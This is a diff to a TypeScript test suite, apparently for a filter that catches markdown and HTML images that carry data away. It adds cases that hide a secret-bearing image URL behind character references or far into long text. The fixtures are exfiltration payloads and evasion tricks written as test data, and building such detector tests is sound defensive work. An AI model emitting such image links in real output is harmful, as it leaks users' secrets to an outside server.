@@ -12,6 +12,7 @@ const threatsOf = async (text: string) => {
   return output.urls.flatMap((url) => url.threat_types);
 };
 const leak = 'https://status.acme-corp.com/l.png?secret=hunter2horse';
+const referenced = leak.replace(':', '&#58;');
 const words = 'how the garden looks in spring, ';
 const page = 'A paragraph about the opening hours of the library.\n\n'.repeat(700);
 
@@ -26,6 +27,11 @@ describe('an image that carries data away is told', () => {
     ['by a name, with brackets in its alt text', `![a [b] c][p]\n\n[p]: ${leak}`],
     ['by a name that stands far off', `![status][p]\n\n${page}[p]: ${leak}`],
     ['by a name that is defined far before', `[p]: ${leak}\n\n${page}![status][p]`],
+    ['by a name, in character references, that stands far off', `![status][p]\n\n${page}[p]: ${referenced}`],
+    [
+      'in character references across a cut of the text',
+      `${page.slice(0, 32_700)}![${'x\n'.repeat(150)}](${referenced})`,
+    ],
     ['with a > in its alt text', `<img alt="a > b" src="${leak}">`],
     ['behind a long attribute', `<img alt="${words.repeat(40)}" class=x src='${leak}'>`],
     ['without quotation marks', `<img class=wide src=${leak}>`],
